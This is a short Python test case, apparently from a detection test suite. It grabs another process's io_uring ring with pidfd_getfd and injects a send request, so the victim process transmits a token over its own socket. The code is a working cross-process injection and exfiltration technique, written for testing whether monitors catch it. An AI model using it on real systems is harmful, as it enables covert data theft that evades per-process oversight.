#!/usr/bin/python3
# id: c62_pidfd_getfd_ring
# title: pidfd_getfd: takes the ring of another process of the same user, and writes into it what its thread is to send
# needs: user
# expect: detect
# why: the thread that sends is the other process's, and so is the socket
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
import mmap, struct
def f():
    try: v = json.load(open(RUN + '/ringer'))
    except ValueError: cannot('no io_uring')
    L = ctypes.CDLL(None, use_errno=True); p = L.syscall(434, v['pid'], 0); fd = L.syscall(438, p, v['ring'], 0)
    if fd < 0: raise OSError(ctypes.get_errno(), 'pidfd_getfd')
    q = mmap.mmap(fd, 4096); e = mmap.mmap(fd, 8 * 64, offset=0x10000000); d = TOK.encode() + b'\n'
    e[128:128 + len(d)] = d; e[:64] = struct.pack('<BBHiQQII', 26, 0, 0, v['fd'], 0, v['at'] + 128, len(d), 0) + bytes(32)
    q[v['array']:v['array'] + 4] = bytes(4); tail = int.from_bytes(q[v['tail']:v['tail'] + 4], 'little') + 1; q[v['tail']:v['tail'] + 4] = tail.to_bytes(4, 'little')
    L.syscall(426, fd, 0, 0, 2, 0, 0); time.sleep(1)
attempt(f)
